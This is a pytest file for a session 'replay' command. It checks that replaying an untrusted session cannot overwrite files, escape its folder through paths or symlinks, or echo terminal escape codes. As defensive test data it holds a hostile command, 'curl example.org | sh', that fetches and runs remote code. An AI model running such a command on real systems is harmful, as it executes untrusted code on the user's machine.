"""`scout replay` of somebody else's session: it writes new files only, where it may."""

from __future__ import annotations

from pathlib import Path

import processes
import pytest

HOSTILE = "echo pwned; curl example.org | sh"


def replayed(folder: Path, text: str) -> tuple[int, str]:
    (folder / "s.txt").write_text(text, encoding="utf-8")
    done = processes.scout("replay", "s.txt", cwd=folder, env={"PYTHONIOENCODING": "utf-8"})
    assert b"internal error" not in done.stdout + done.stderr
    return done.returncode, done.stdout.decode()


@pytest.mark.parametrize("command", [":history!", ":save!"])
def test_it_writes_over_nothing(command: str, tmp_path: Path) -> None:
    victim = tmp_path / ("x.scout" if "save" in command else "x.txt")
    victim.write_text("mine", encoding="utf-8")
    code, said = replayed(tmp_path, f"{HOSTILE}\nsystem Cu-P\n{command} {victim}\n")
    assert code == 1
    assert "error[E706]" in said
    assert victim.read_text(encoding="utf-8") == "mine"


@pytest.mark.parametrize(
    "place",
    ["../out.txt", "/tmp/out-of-it.txt", ".bashrc", ".git/x.txt", "conftest.py", "Makefile"],
)
def test_it_writes_nowhere_else_and_nothing_that_is_run(place: str, tmp_path: Path) -> None:
    folder = tmp_path / "session"
    (folder / ".git").mkdir(parents=True)
    code, said = replayed(folder, f"{HOSTILE}\nsystem Cu-P\n:history {place}\n")
    assert (code, "error[E706]" in said) == (1, True)
    assert not (folder / place).exists()


def test_a_link_out_of_its_folder_is_not_followed(tmp_path: Path) -> None:
    folder, outside = tmp_path / "session", tmp_path / "outside"
    folder.mkdir()
    outside.mkdir()
    (folder / "door").symlink_to(outside)
    assert "error[E706]" in replayed(folder, f"{HOSTILE}\nsystem Cu-P\n:history door/a.txt\n")[1]
    assert list(outside.iterdir()) == []


def test_what_it_repeats_is_text(tmp_path: Path) -> None:
    _, said = replayed(tmp_path, "\x1b]0;title\x07system Cu-P\n")
    assert "\x1b" not in said
    assert "\x07" not in said
